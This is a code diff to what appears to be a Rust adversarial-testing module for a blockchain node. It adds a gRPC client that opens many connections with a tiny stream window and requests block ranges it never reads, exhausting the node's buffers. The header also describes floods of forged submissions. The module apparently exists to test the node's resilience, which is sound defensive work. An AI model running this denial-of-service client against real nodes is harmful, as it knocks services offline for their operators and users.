@@ -1,6 +1,8 @@
 //! A gRPC client that takes all it can: thousands of commit-certificate
 //! streams over many connections (never reading them, so every admitted
-//! stream's buffer fills), and floods of malformed and forged
+//! stream's buffer fills), thousands of block ranges whose answers it
+//! never reads (a stream window of a few bytes), and floods of malformed
+//! and forged
 //! submissions: transactions without a body or with a signature that does
 //! not verify, evidence without votes or with votes in a validator's name
 //! whose signatures are made up.
@@ -68,6 +70,83 @@ pub async fn certificate_streams(
     }
     tokio::time::sleep_until(deadline).await;
     drop(held);
+    Ok(report)
+}
+
+/// The window each of the attacker's streams grants the node: too small
+/// for any answer, so every answer the node accepts to send stays with it.
+const UNREAD_WINDOW: u32 = 16;
+/// How long the attacker's calls are polled before it stops reading: long
+/// enough for the node to answer or refuse each of them.
+const ASK_TIME: Duration = Duration::from_millis(1_500);
+
+/// A call whose answer is never read: boxed so it can be polled a while and
+/// then kept unpolled.
+type Unread = std::pin::Pin<Box<dyn std::future::Future<Output = Result<(), tonic::Status>>>>;
+
+/// Opens `connections` connections whose streams grant the node a window
+/// of [`UNREAD_WINDOW`] bytes, asks `per_connection` `GetBlocks` ranges from
+/// height 1 on each, and never reads an answer: every answer the node
+/// agrees to send must wait in its buffers. Holds them until `deadline`.
+/// `report.accepted` counts the calls the node took on (their answers
+/// waiting, unread), `report.rejected` the ones it refused.
+pub async fn unread_block_ranges(
+    target: &Target,
+    connections: u64,
+    per_connection: u64,
+    deadline: Instant,
+) -> Result<Report, AttackError> {
+    let mut report = Report::default();
+    let mut calls: Vec<Option<Unread>> = Vec::new();
+    for _ in 0..connections {
+        let ep = Endpoint::from_shared(format!("http://{}", target.grpc))
+            .map_err(|e| AttackError::Grpc(e.to_string()))?
+            .connect_timeout(Duration::from_secs(2))
+            .initial_stream_window_size(Some(UNREAD_WINDOW));
+        let Ok(ch) = ep.connect().await else {
+            report.refused += 1;
+            continue;
+        };
+        report.connected += 1;
+        for _ in 0..per_connection {
+            let mut q = QueryClient::new(ch.clone());
+            let call: Unread = Box::pin(async move {
+                q.get_blocks(pb::GetBlocksRequest {
+                    from_height: 1,
+                    max_blocks: 256,
+                })
+                .await
+                .map(drop)
+            });
+            calls.push(Some(call));
+            report.sent += 1;
+        }
+    }
+    // Poll every call until the node answered or refused it (an answer
+    // cannot finish: its stream's window is too small), then stop reading.
+    let ask_until = (Instant::now() + ASK_TIME).min(deadline);
+    let mut settled = 0u64;
+    let drive = std::future::poll_fn(|cx| {
+        for slot in calls.iter_mut() {
+            if let Some(call) = slot
+                && let std::task::Poll::Ready(r) = call.as_mut().poll(cx)
+            {
+                *slot = None;
+                settled += 1;
+                count(&mut report, r.is_ok());
+            }
+        }
+        if calls.iter().all(Option::is_none) {
+            std::task::Poll::Ready(())
+        } else {
+            std::task::Poll::Pending
+        }
+    });
+    let _ = tokio::time::timeout_at(ask_until, drive).await;
+    // Calls still pending: the node took them on and holds their answers.
+    report.accepted += report.sent - settled;
+    tokio::time::sleep_until(deadline).await;
+    drop(calls);
     Ok(report)
 }
 
